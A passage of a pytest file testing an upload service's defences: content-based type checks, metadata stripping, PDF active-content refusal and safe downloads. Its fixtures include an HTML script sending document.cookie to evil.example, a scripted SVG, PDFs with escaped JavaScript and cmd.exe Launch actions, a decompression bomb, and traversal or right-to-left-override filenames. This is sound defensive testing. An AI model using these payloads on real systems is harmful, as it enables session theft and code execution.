"""Safe uploads (issue 4): files are accepted for what their content is, never their name;
images lose their metadata; PDFs with active content are refused; a refusal names the file
and stores nothing; files follow their transaction; downloads never render in the browser.

Every file here is real: images drawn and saved with Pillow, PDFs written by Pillow, pikepdf
or by hand. (The attacks on PDF checking of issue 9 are in test_upload_pdf.py.)
"""

from __future__ import annotations

import hashlib
import html
import io
import json
import re
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from flask import Flask, request
from flask_login import current_user
from PIL import ExifTags, Image, ImageCms, PngImagePlugin
from sqlalchemy import delete, func, select
from werkzeug.datastructures import FileStorage

from registry import db
from registry.audit.models import AuditAction, AuditEvent
from registry.auth.models import User
from registry.auth.permissions import Permission, requires
from registry.channels.models import Channel
from registry.errors import Conflict, Invalid, NotFound
from registry.uploads import services as uploads
from registry.uploads.models import Upload, UploadContent

MB = 1024 * 1024
ALLOWED = "Upload a PNG, JPEG, GIF or WebP image, or a PDF."


# --- real files ----------------------------------------------------------------------------


def image_bytes(
    fmt: str, size: tuple[int, int] = (40, 30), colour: Any = (0, 94, 184), mode: str = "RGB", **options: Any
) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, colour).save(buffer, fmt, **options)
    return buffer.getvalue()


def jpeg_with_location(orientation: int | None = None) -> bytes:
    """A phone-style photo: camera make, GPS position, XMP, an ICC profile and a comment."""
    picture = Image.new("RGB", (64, 48), (200, 10, 10))
    picture.paste((255, 255, 255), (0, 0, 16, 48))  # a white band on the left, to see the rotation
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneCo"
    exif[ExifTags.Base.Artist] = "Jane Bloggs"
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (51.0, 30.0, 12.5)
    gps[ExifTags.GPS.GPSLongitudeRef] = "W"
    gps[ExifTags.GPS.GPSLongitude] = (0.0, 7.0, 39.0)
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    buffer = io.BytesIO()
    picture.save(
        buffer,
        "JPEG",
        exif=exif,
        icc_profile=icc,
        comment=b"Taken at 12 Acacia Avenue",
        xmp=b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>Creator: Jane Bloggs</x:xmpmeta>",
    )
    return buffer.getvalue()


def pdf_by_pillow() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (200, 100), (255, 255, 255)).save(buffer, "PDF")
    return buffer.getvalue()


def handmade_pdf(*objects: bytes) -> bytes:
    """A small PDF with these objects after the catalogue (object 1) and pages (object 2),
    and its one page last."""
    page = len(objects) + 3
    body = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % page,
        *objects,
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Resources << >> >>",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, content in enumerate(body, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(body) + 1, xref)
    return bytes(out)


def compressed_stream(content: bytes) -> bytes:
    packed = zlib.compress(content)
    return (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
        + packed
        + b"\nendstream"
    )


def packed_by_pikepdf(
    action: pikepdf.Dictionary,
    *,
    object_stream_type: bytes = b"/Type /ObjStm ",
    object_stream_filter: bytes = b"/Filter /FlateDecode",
) -> bytes:
    """A one-page PDF with a link running ``action``, saved by pikepdf with its objects packed
    in a compressed object stream (as PDF 1.5+ writers do). The object stream's type and
    filter can be written otherwise, at the same length, so every offset stays right."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 100))
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 50, 50], A=action)
    pdf.pages[0].obj.Annots = pikepdf.Array([pdf.make_indirect(link)])
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    data = out.getvalue()
    assert len(object_stream_type) == 14 and len(object_stream_filter) == 20
    stream = data.index(b"/Type /ObjStm ")
    header = data[stream : data.index(b">>", stream)].replace(b"/Filter /FlateDecode", object_stream_filter)
    return data[:stream] + header.replace(b"/Type /ObjStm ", object_stream_type) + data[stream + len(header) :]


def file(data: bytes, name: str, declared: str = "application/octet-stream") -> FileStorage:
    return FileStorage(stream=io.BytesIO(data), filename=name, content_type=declared)


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/api/v1/channels').then(r => r.text()).then(alert)</script>"
    b'<rect width="10" height="10" fill="#005EB8"/></svg>'
)
HTML_PAGE = b"<!doctype html><html><body><script>document.location='https://evil.example/'+document.cookie</script></body></html>"


# --- helpers -------------------------------------------------------------------------------


def text_of(response: Any) -> str:
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", response.get_data(as_text=True))).split())


def stored_files(app: Flask) -> list[int]:
    """The uploads whose bytes are stored, by id; and never a file on this host's disk."""
    assert not (Path(app.instance_path) / "uploads").exists()
    return list(db.session().scalars(select(UploadContent.upload_id).order_by(UploadContent.upload_id)))


def upload_rows() -> int:
    return db.session().execute(select(func.count()).select_from(Upload)).scalar_one()


def refusal(field: str, *files: FileStorage, actor: User) -> str:
    with pytest.raises(Invalid) as raised:
        uploads.store_all(list(files), actor=actor, field=field)
    assert set(raised.value.errors) == {field}
    return raised.value.errors[field]


@pytest.fixture
def staff(make_user: Callable[..., User]) -> User:
    return make_user("staff")


@pytest.fixture
def routes(app: Flask) -> None:
    """Two routes as an area would have them: one stores the files sent (and, if asked, then
    fails, so the request rolls back); one serves a file with ``uploads.send``."""

    @requires(Permission.CONSENT_REQUEST)
    def accept() -> Any:
        kept = uploads.store_all(
            request.files.getlist("files"), actor=current_user._get_current_object(), field="files"
        )
        if request.form.get("then") == "fail":
            raise Conflict("Something after the upload went wrong.")
        return {"ids": [upload.id for upload in kept]}, 201

    @requires(Permission.CONSENT_REQUEST)
    def download(upload_id: int) -> Any:
        return uploads.send(db.session().get_one(Upload, upload_id))

    app.add_url_rule("/test-uploads", "test_uploads_accept", accept, methods=["POST"])
    app.add_url_rule("/test-uploads/<int:upload_id>", "test_uploads_download", download)


# --- what is accepted, by content ----------------------------------------------------------


def test_a_png_renamed_pdf_is_stored_as_the_png_it_is(app: Flask, staff: User) -> None:
    """Content wins over the name and the declared type: the file is a harmless PNG and is
    kept as one (refusing it would only make the sender rename it back); it is served as
    image/png and downloads as ``logo.png``."""
    upload = uploads.store(file(image_bytes("PNG"), "logo.pdf", "application/pdf"), actor=staff, field="artwork")
    assert upload.content_type == "image/png" and upload.is_image
    assert upload.original_name == "logo.pdf"
    assert uploads.download_name(upload) == "logo.png"
    assert Image.open(io.BytesIO(uploads.read_bytes(upload))).format == "PNG"


@pytest.mark.parametrize(
    ("fmt", "name", "content_type", "options"),
    [
        ("PNG", "poster.png", "image/png", {}),
        ("JPEG", "photo.jpg", "image/jpeg", {}),
        ("GIF", "banner.gif", "image/gif", {}),
        ("WEBP", "banner.webp", "image/webp", {}),
    ],
)
def test_each_allowed_image_type_is_stored(
    app: Flask, staff: User, fmt: str, name: str, content_type: str, options: dict[str, Any]
) -> None:
    upload = uploads.store(file(image_bytes(fmt, **options), name), actor=staff, field="artwork")
    assert upload.content_type == content_type
    with Image.open(io.BytesIO(uploads.read_bytes(upload))) as back:
        assert back.format == fmt and back.size == (40, 30)


def test_a_valid_pdf_is_stored(app: Flask, staff: User) -> None:
    """As qpdf writes it again from what it checked (tests/test_upload_pdf.py: pages and streams unchanged)."""
    data = pdf_by_pillow()
    upload = uploads.store(file(data, "Letter.pdf", "application/pdf"), actor=staff, field="artwork")
    assert upload.content_type == "application/pdf" and not upload.is_image
    stored = uploads.read_bytes(upload)
    with pikepdf.open(io.BytesIO(stored)) as pdf:
        assert len(pdf.pages) == 1
    assert upload.size == len(stored)


def test_an_html_file_renamed_png_is_refused(app: Flask, staff: User) -> None:
    message = refusal("artwork", file(HTML_PAGE, "logo.png", "image/png"), actor=staff)
    assert message == f"logo.png: this type of file is not accepted. {ALLOWED}"
    assert upload_rows() == 0 and stored_files(app) == []


def test_an_svg_with_a_script_is_refused(app: Flask, staff: User) -> None:
    message = refusal("artwork", file(SVG_WITH_SCRIPT, "lozenge.svg", "image/svg+xml"), actor=staff)
    assert message == (
        "lozenge.svg: SVG images are not accepted, because they can contain scripts. "
        "Upload a PNG, JPEG, GIF or WebP image, or a PDF instead."
    )
    # and an SVG that calls itself a PNG is no better off
    assert refusal("artwork", file(SVG_WITH_SCRIPT[39:], "lozenge.png", "image/png"), actor=staff).startswith(
        "lozenge.png: SVG images are not accepted"
    )
    assert upload_rows() == 0 and stored_files(app) == []


def test_a_zero_byte_file_is_refused(app: Flask, staff: User) -> None:
    message = refusal("artwork", file(b"", "empty.png", "image/png"), actor=staff)
    assert message == "empty.png: the file is empty. Choose the file again."
    assert upload_rows() == 0 and stored_files(app) == []


def test_a_file_over_the_limit_is_refused_by_the_service_itself(app: Flask, staff: User) -> None:
    """The service checks each file too (a caller that is not a web form is still limited)."""
    limit = 10 * MB
    message = refusal("artwork", file(image_bytes("PNG") + b"\0" * limit, "huge.png"), actor=staff)
    assert message == "huge.png: the file is too big. Each file must be 10 MB or smaller."
    # exactly at the limit passes the size check (and is then judged by its content)
    at_limit = refusal("artwork", file(b"x" * limit, "notes.txt"), actor=staff)
    assert at_limit == f"notes.txt: this type of file is not accepted. {ALLOWED}"
    assert upload_rows() == 0 and stored_files(app) == []


def test_a_request_over_the_limit_gets_the_friendly_413_page(
    app: Flask, browser_as: Callable[..., Any], staff: User, connection: Any
) -> None:
    browser = browser_as(user=staff)
    channels_before = connection.execute(select(func.count()).select_from(Channel)).scalar_one()
    response = browser.post(
        "/channels/new",
        data={"platform": "x", "handle": "trust_big", "artwork": (io.BytesIO(b"\xff" * (11 * MB)), "big.jpg")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 413
    page = text_of(response)
    assert "The file is too big Each file must be 10 MB or smaller." in page
    assert "<h1>The file is too big</h1>" in response.get_data(as_text=True)
    assert connection.execute(select(func.count()).select_from(Channel)).scalar_one() == channels_before


def test_an_api_request_over_the_limit_gets_problem_json(
    app: Flask, client: Any, staff: User, api_token: Callable[[User], dict[str, str]]
) -> None:
    response = client.post(
        "/api/v1/channels",
        headers=api_token(staff),
        content_type="application/json",
        data=json.dumps({"platform": "x", "handle": "big", "purpose": "x" * (11 * MB)}),
    )
    assert response.status_code == 413
    assert response.mimetype == "application/problem+json"
    body = response.get_json()
    assert body["title"] == "The file is too big"
    assert body["detail"].startswith("Each file must be 10 MB or smaller.")


def test_the_limit_is_configurable(database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from registry import create_app
    from tests.conftest import settings_for

    monkeypatch.setenv("REGISTRY_INSTANCE_PATH", str(tmp_path / "other"))
    small = create_app(settings_for(database_url, MAX_UPLOAD_MB="2"))
    assert small.extensions["registry.settings"].max_upload_bytes == 2 * MB
    assert small.config["MAX_CONTENT_LENGTH"] == 2 * MB + 512 * 1024


# --- images lose their metadata ------------------------------------------------------------


def test_exif_with_gps_xmp_icc_and_comment_are_removed_from_a_stored_jpeg(app: Flask, staff: User) -> None:
    original = jpeg_with_location()
    with Image.open(io.BytesIO(original)) as sent:  # the test photo really carries them
        assert sent.getexif().get_ifd(ExifTags.IFD.GPSInfo)
        assert {"exif", "xmp", "icc_profile", "comment"} <= set(sent.info)

    upload = uploads.store(file(original, "ward.jpg", "image/jpeg"), actor=staff, field="images")
    stored = uploads.read_bytes(upload)
    with Image.open(io.BytesIO(stored)) as back:
        assert back.format == "JPEG" and back.size == (64, 48)
        assert len(back.getexif()) == 0
        assert back.getexif().get_ifd(ExifTags.IFD.GPSInfo) == {}
        assert not {"exif", "xmp", "icc_profile", "comment"} & set(back.info)
        assert back.getpixel((40, 24))[0] > 150  # still the red photo
    for trace in (b"Exif", b"PhoneCo", b"Jane Bloggs", b"Acacia", b"xmpmeta"):
        assert trace not in stored


def test_a_photo_keeps_its_orientation_when_the_exif_tag_goes(app: Flask, staff: User) -> None:
    """Orientation 6 means 'turn 90° clockwise to view': the pixels are turned before the tag is dropped."""
    upload = uploads.store(file(jpeg_with_location(orientation=6), "sideways.jpg"), actor=staff, field="images")
    with Image.open(io.BytesIO(uploads.read_bytes(upload))) as back:
        assert back.size == (48, 64)
        assert back.getpixel((24, 4))[1] > 200  # the white band is now at the top
        assert len(back.getexif()) == 0


def test_png_text_chunks_and_profile_are_removed(app: Flask, staff: User) -> None:
    text = PngImagePlugin.PngInfo()
    text.add_text("Author", "Jane Bloggs")
    text.add_itxt("Description", "Patient on ward 7", zip=True)
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    original = image_bytes("PNG", mode="RGBA", colour=(0, 94, 184, 128), pnginfo=text, icc_profile=icc)
    upload = uploads.store(file(original, "poster.png"), actor=staff, field="artwork")
    stored = uploads.read_bytes(upload)
    with Image.open(io.BytesIO(stored)) as back:
        assert back.mode == "RGBA" and back.getpixel((0, 0)) == (0, 94, 184, 128)  # transparency kept
        assert back.text == {} and "icc_profile" not in back.info
    assert b"tEXt" not in stored and b"iTXt" not in stored and b"iCCP" not in stored


def test_an_animated_gif_keeps_its_frames_and_timing_but_not_its_comment(app: Flask, staff: User) -> None:
    frames = [Image.new("RGB", (20, 20), colour) for colour in ((255, 0, 0), (0, 255, 0), (0, 0, 255))]
    buffer = io.BytesIO()
    frames[0].save(
        buffer,
        "GIF",
        save_all=True,
        append_images=frames[1:],
        duration=[200, 300, 400],
        loop=0,
        comment=b"made by Jane Bloggs",
    )
    upload = uploads.store(file(buffer.getvalue(), "spinner.gif"), actor=staff, field="images")
    stored = uploads.read_bytes(upload)
    with Image.open(io.BytesIO(stored)) as back:
        assert back.n_frames == 3 and back.info.get("loop") == 0
        durations, colours = [], []
        for index in range(3):
            back.seek(index)
            durations.append(back.info["duration"])
            colours.append(back.convert("RGB").getpixel((10, 10)))
        assert durations == [200, 300, 400]
        assert colours == [(255, 0, 0), (0, 255, 0), (0, 0, 255)]
        assert "comment" not in back.info
    assert b"Jane Bloggs" not in stored


def test_an_animated_webp_keeps_its_frames(app: Flask, staff: User) -> None:
    frames = [Image.new("RGB", (16, 16), colour) for colour in ((255, 0, 0), (0, 0, 255))]
    buffer = io.BytesIO()
    frames[0].save(
        buffer,
        "WEBP",
        save_all=True,
        append_images=frames[1:],
        duration=[100, 250],
        loop=0,
        exif=b"Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x00",
        lossless=True,
    )
    upload = uploads.store(file(buffer.getvalue(), "wave.webp"), actor=staff, field="images")
    stored = uploads.read_bytes(upload)
    with Image.open(io.BytesIO(stored)) as back:
        assert back.n_frames == 2 and "exif" not in back.info
        back.seek(1)
        assert back.convert("RGB").getpixel((8, 8)) == (0, 0, 255)  # lossless stayed lossless
    assert b"EXIF" not in stored


def test_a_re_encoded_jpeg_keeps_the_original_quality(app: Flask, staff: User) -> None:
    photo = Image.effect_noise((800, 600), 40).convert("RGB")
    buffer = io.BytesIO()
    photo.save(buffer, "JPEG", quality=70)
    upload = uploads.store(file(buffer.getvalue(), "crowd.jpg"), actor=staff, field="images")
    with Image.open(io.BytesIO(uploads.read_bytes(upload))) as back:
        assert back.quantization == Image.open(buffer).quantization  # the same tables: no bloat, no loss
    assert 0.85 < upload.size / len(buffer.getvalue()) < 1.15


def test_a_16_bit_grey_png_stays_grey(app: Flask, staff: User) -> None:
    upload = uploads.store(file(image_bytes("PNG", mode="I;16", colour=32768), "scan.png"), actor=staff, field="x")
    with Image.open(io.BytesIO(uploads.read_bytes(upload))) as back:
        assert back.convert("RGB").getpixel((0, 0)) == (128, 128, 128)


def test_an_animation_with_too_many_frames_is_refused(app: Flask, staff: User) -> None:
    frames = [Image.new("L", (2, 2), shade % 256) for shade in range(uploads.MAX_FRAMES + 1)]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=20)
    message = refusal("images", file(buffer.getvalue(), "long.gif"), actor=staff)
    assert (
        message == "long.gif: the animation has 1,001 frames; it can have up to 1,000. Shorten it and upload it again."
    )


def test_a_damaged_image_is_refused(app: Flask, staff: User) -> None:
    noisy = Image.effect_noise((300, 200), 64).convert("RGB")
    buffer = io.BytesIO()
    noisy.save(buffer, "PNG")
    whole = buffer.getvalue()
    cut = whole[: len(whole) // 2]
    message = refusal("images", file(cut, "cut.png"), actor=staff)
    assert message == (
        "cut.png: the image is damaged or incomplete and cannot be read. Save it again and upload the new copy."
    )
    assert upload_rows() == 0 and stored_files(app) == []


@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_a_decompression_bomb_is_refused(app: Flask, staff: User) -> None:
    """A tiny file that would unpack to more pixels than Pillow's limit."""
    width, height = 10_000, 9_000  # 90 million pixels, over Pillow's 89,478,485
    bomb = image_bytes("PNG", size=(width, height), colour=0, mode="1")
    assert len(bomb) < 1 * MB
    message = refusal("images", file(bomb, "bomb.png"), actor=staff)
    assert message == (
        "bomb.png: the image is too large to process (10,000 × 9,000 pixels). "
        f"Images can have up to {Image.MAX_IMAGE_PIXELS:,} pixels in all. Make it smaller and upload it again."
    )


# --- PDFs ----------------------------------------------------------------------------------


SCRIPT = "it contains a script (JavaScript)"


@pytest.mark.parametrize(
    ("data", "found"),
    [
        (lambda: handmade_pdf(b"<< /Type /Action /S /JavaScript /JS (app.alert('hello')) >>"), SCRIPT),
        (lambda: handmade_pdf(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"), SCRIPT),  # names hidden with #xx escapes
        (
            lambda: handmade_pdf(b"<< /S /Launch /F (cmd.exe) >>"),
            "it can start a program or open a file on the computer (a Launch action)",
        ),
        (
            lambda: handmade_pdf(b"<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream"),
            "it has a file embedded in it (an embedded file)",
        ),
        (
            lambda: packed_by_pikepdf(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))),
            SCRIPT,
        ),  # in an object stream
        (
            lambda: packed_by_pikepdf(pikepdf.Dictionary(S=pikepdf.Name.Launch), object_stream_type=b"/Type/Obj#53tm"),
            "it can start a program or open a file on the computer (a Launch action)",
        ),
    ],
)
def test_a_pdf_with_active_content_is_refused(app: Flask, staff: User, data: Callable[[], bytes], found: str) -> None:
    message = refusal("artwork", file(data(), "flyer.pdf", "application/pdf"), actor=staff)
    assert message == (
        f"flyer.pdf: the PDF cannot be accepted because {found}. "
        "Print it to a new PDF, which leaves such content out, and upload that."
    )
    assert upload_rows() == 0 and stored_files(app) == []


def test_a_handmade_pdf_without_active_content_is_accepted(app: Flask, staff: User) -> None:
    data = handmade_pdf(compressed_stream(b"3 0 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"))
    assert uploads.store(file(data, "plain.pdf"), actor=staff, field="artwork").content_type == "application/pdf"


def test_a_pdf_that_cannot_be_checked_is_refused(app: Flask, staff: User) -> None:
    """An object stream in an encoding qpdf cannot decode hides what it holds; so does encryption."""
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    hidden = packed_by_pikepdf(script, object_stream_filter=b"/Filter /JBIG2Decode")
    unreadable = refusal("artwork", file(hidden, "packed.pdf"), actor=staff)
    assert unreadable == (
        "packed.pdf: the PDF is damaged or stored in a way that cannot be checked. Print it to a new PDF and "
        "upload that."
    )
    encrypted = handmade_pdf(b"<< /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 >>").replace(
        b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 3 0 R"
    )
    assert refusal("artwork", file(encrypted, "locked.pdf"), actor=staff) == (
        "locked.pdf: the PDF is password-protected or encrypted, so it cannot be checked. "
        "Save a copy without protection and upload that."
    )


def test_a_pdf_that_does_not_start_with_its_header_or_is_cut_short_is_refused(app: Flask, staff: User) -> None:
    shifted = refusal("artwork", file(b"JUNK\n" + pdf_by_pillow(), "shifted.pdf"), actor=staff)
    assert shifted == (
        "shifted.pdf: this is not a valid PDF (it does not start with %PDF-). "
        "Save it as a PDF again and upload the new copy."
    )
    whole = pdf_by_pillow()
    cut = refusal("artwork", file(whole[: len(whole) - 40], "cut.pdf"), actor=staff)
    assert cut == (
        "cut.pdf: the PDF is incomplete (it has no end-of-file marker). Save it as a PDF again and upload the new copy."
    )


# --- storage -------------------------------------------------------------------------------


def test_stored_files_are_in_the_database_and_match_their_sha256(
    app: Flask, staff: User, count_queries: Callable[[], Any]
) -> None:
    """The bytes are in the database beside their row, not on this host's disk; listing uploads never
    loads them."""
    first = uploads.store(file(image_bytes("PNG"), "a.png"), actor=staff, field="artwork")
    second = uploads.store(file(image_bytes("PNG"), "a.png"), actor=staff, field="artwork")
    db.session().commit()
    assert not (Path(app.instance_path) / "uploads").exists()
    for upload in (first, second):
        data = db.session().get_one(UploadContent, upload.id).data
        assert hashlib.sha256(data).hexdigest() == upload.sha256
        assert len(data) == upload.size
        assert uploads.read_bytes(upload) == data
    assert first.id != second.id and first.sha256 == second.sha256
    assert first.uploaded_by is staff

    db.session().expunge_all()
    with count_queries() as queries:
        listed = db.session().scalars(select(Upload).order_by(Upload.id)).all()
    assert [upload.id for upload in listed] == [first.id, second.id]
    assert queries.n >= 1 and not any("upload_contents" in statement for statement in queries.statements)


def test_every_stored_file_is_audited_without_its_name(app: Flask, staff: User) -> None:
    upload = uploads.store(file(image_bytes("PNG"), "Jane Bloggs.png"), actor=staff, field="artwork")
    event = (
        db.session()
        .execute(
            select(AuditEvent).where(
                AuditEvent.action == AuditAction.UPLOAD_STORE.value, AuditEvent.object_id == str(upload.id)
            )
        )
        .scalar_one()
    )
    assert event.actor_id == staff.id
    assert json.loads(event.details) == {
        "field": "artwork",
        "content_type": "image/png",
        "size": upload.size,
        "sha256": upload.sha256,
    }
    assert "Bloggs" not in event.details


def test_a_refusal_is_audited(app: Flask, staff: User) -> None:
    refusal("artwork", file(SVG_WITH_SCRIPT, "Jane Bloggs.svg"), file(b"", "empty.png"), actor=staff)
    event = (
        db.session()
        .execute(select(AuditEvent).where(AuditEvent.action == AuditAction.UPLOAD_REFUSED.value))
        .scalar_one()
    )
    assert json.loads(event.details) == {"field": "artwork", "reasons": ["svg", "empty"]}


def test_one_bad_file_among_good_ones_stores_nothing(app: Flask, staff: User) -> None:
    files = [
        file(image_bytes("PNG"), "one.png"),
        file(pdf_by_pillow(), "two.pdf"),
        file(HTML_PAGE, "three.gif"),
        file(jpeg_with_location(), "four.jpg"),
    ]
    message = refusal("images", *files, actor=staff)
    assert message == f"three.gif: this type of file is not accepted. {ALLOWED}"
    assert upload_rows() == 0 and stored_files(app) == []


def test_every_refused_file_is_named(app: Flask, staff: User) -> None:
    message = refusal(
        "images", file(b"", "a.png"), file(image_bytes("PNG"), "b.png"), file(HTML_PAGE, "c.png"), actor=staff
    )
    assert (
        message
        == f"a.png: the file is empty. Choose the file again. c.png: this type of file is not accepted. {ALLOWED}"
    )


def test_inputs_with_no_file_chosen_are_skipped_and_store_needs_one(app: Flask, staff: User) -> None:
    nothing = FileStorage(stream=io.BytesIO(b""), filename="", content_type="application/octet-stream")
    assert uploads.store_all([nothing, None], actor=staff, field="images") == []
    with pytest.raises(Invalid) as raised:
        uploads.store(nothing, actor=staff, field="artwork")
    assert raised.value.errors == {"artwork": "Choose a file: a PNG, JPEG, GIF or WebP image, or a PDF."}


def test_a_rollback_leaves_no_files(app: Flask, staff: User) -> None:
    session = db.session()
    session.commit()
    kept = uploads.store(file(image_bytes("PNG"), "kept.png"), actor=staff, field="artwork")
    session.commit()
    assert stored_files(app) == [kept.id]

    uploads.store_all([file(image_bytes("GIF"), "a.gif"), file(pdf_by_pillow(), "b.pdf")], actor=staff, field="x")
    assert len(stored_files(app)) == 3
    session.rollback()
    assert stored_files(app) == [kept.id]
    assert upload_rows() == 1


def test_a_rolled_back_savepoint_takes_its_files_and_a_released_one_keeps_them(app: Flask, staff: User) -> None:
    session = db.session()
    session.commit()
    with session.begin_nested():
        released = uploads.store(file(image_bytes("PNG"), "released.png"), actor=staff, field="x")
    savepoint = session.begin_nested()
    dropped = uploads.store(file(image_bytes("PNG"), "dropped.png"), actor=staff, field="x")
    savepoint.rollback()
    assert stored_files(app) == [released.id]
    assert dropped.id not in stored_files(app)

    session.rollback()  # the outer transaction takes the released savepoint's file with it
    assert stored_files(app) == []


def test_closing_a_session_without_committing_leaves_no_files(app: Flask, staff: User) -> None:
    session = db.session()
    session.commit()
    uploads.store(file(image_bytes("PNG"), "a.png"), actor=staff, field="x")
    assert len(stored_files(app)) == 1
    session.close()
    assert stored_files(app) == []


def test_a_request_that_fails_after_storing_leaves_no_files(
    app: Flask, routes: None, browser_as: Callable[..., Any], staff: User
) -> None:
    browser = browser_as(user=staff)
    sent = {"files": [(io.BytesIO(image_bytes("PNG")), "a.png"), (io.BytesIO(pdf_by_pillow()), "b.pdf")]}
    failed = browser.post("/test-uploads", data={**sent, "then": "fail"}, content_type="multipart/form-data")
    assert failed.status_code == 409
    assert stored_files(app) == [] and upload_rows() == 0

    sent = {"files": [(io.BytesIO(image_bytes("PNG")), "a.png"), (io.BytesIO(pdf_by_pillow()), "b.pdf")]}
    stored = browser.post("/test-uploads", data=sent, content_type="multipart/form-data")
    assert stored.status_code == 201
    assert len(stored.get_json()["ids"]) == 2 and len(stored_files(app)) == 2 and upload_rows() == 2


def test_a_refused_request_reports_the_file_and_stores_nothing(
    app: Flask, routes: None, browser_as: Callable[..., Any], staff: User
) -> None:
    browser = browser_as(user=staff)
    sent = {"files": [(io.BytesIO(image_bytes("PNG")), "fine.png"), (io.BytesIO(SVG_WITH_SCRIPT), "logo.svg")]}
    response = browser.post("/test-uploads", data=sent, content_type="multipart/form-data")
    assert response.status_code == 422
    assert "logo.svg: SVG images are not accepted" in text_of(response)
    assert stored_files(app) == [] and upload_rows() == 0
    refused = db.session().execute(select(AuditEvent).where(AuditEvent.action == AuditAction.UPLOAD_REFUSED.value))
    assert len(refused.scalars().all()) == 1  # recorded although the request was rolled back


# --- names and downloads -------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sent", "shown"),
    [
        ("C:\\Users\\jane\\Desktop\\logo.png", "logo.png"),
        ("../../etc/passwd", "passwd"),
        ("invoice\u202egnp.exe", "invoicegnp.exe"),  # a right-to-left override would show 'exe.png'
        ("two\r\nlines\t.png", "two lines .png"),
        ("zero\u200bwidth\x00.png", "zerowidth.png"),
        ("...", "file"),
        ("Affiche e\u0301te\u0301.png", "Affiche été.png"),
        ("a" * 300 + ".jpeg", "a" * 250 + ".jpeg"),
    ],
)
def test_the_original_name_is_cleaned_for_display(sent: str, shown: str) -> None:
    assert uploads.clean_name(sent) == shown
    assert len(uploads.clean_name(sent)) <= 255


def test_send_makes_a_download_that_is_never_rendered(
    app: Flask, routes: None, browser_as: Callable[..., Any], staff: User
) -> None:
    upload = uploads.store(file(image_bytes("PNG"), 'Affiche été "2026".png'), actor=staff, field="artwork")
    db.session().commit()
    response = browser_as(user=staff).get(f"/test-uploads/{upload.id}")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "image/png"
    assert response.headers.getlist("X-Content-Type-Options") == ["nosniff"]  # the view's, not a second one
    assert response.headers.getlist("Cache-Control") == ["private, no-store"]
    assert response.headers["Content-Security-Policy"] == "default-src 'none'; frame-ancestors 'none'; sandbox"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=UTF-8''Affiche%20%C3%A9t%C3%A9%20%222026%22.png" in disposition
    assert 'filename="Affiche ete \\"2026\\".png"' in disposition  # the ASCII fallback, quoted
    assert "\r" not in disposition and "\n" not in disposition
    assert hashlib.sha256(response.get_data()).hexdigest() == upload.sha256
    assert response.headers["Content-Length"] == str(upload.size)
    assert response.last_modified == upload.created_at.replace(microsecond=0)


def test_a_pdf_downloads_as_a_pdf_with_the_detected_type(
    app: Flask, routes: None, browser_as: Callable[..., Any], staff: User
) -> None:
    renamed = uploads.store(file(pdf_by_pillow(), "consent form", "text/html"), actor=staff, field="artwork")
    db.session().commit()
    response = browser_as(user=staff).get(f"/test-uploads/{renamed.id}")
    assert response.headers["Content-Type"] == "application/pdf"
    assert response.headers["Content-Disposition"] == 'attachment; filename="consent form.pdf"'


def test_a_file_changed_in_storage_is_refused_and_logged_never_served(
    app: Flask, routes: None, browser_as: Callable[..., Any], staff: User, caplog: pytest.LogCaptureFixture
) -> None:
    upload = uploads.store(file(image_bytes("PNG"), "a.png"), actor=staff, field="x")
    db.session().get_one(UploadContent, upload.id).data = b"tampered"
    db.session().commit()
    with pytest.raises(NotFound, match="changed since it was uploaded"):
        uploads.read_bytes(upload)

    caplog.clear()
    response = browser_as(user=staff).get(f"/test-uploads/{upload.id}")
    assert response.status_code == 404
    assert b"tampered" not in response.data
    assert "changed since it was uploaded" in text_of(response)
    assert [r.getMessage() for r in caplog.records if r.name == "registry.uploads.services"] == [
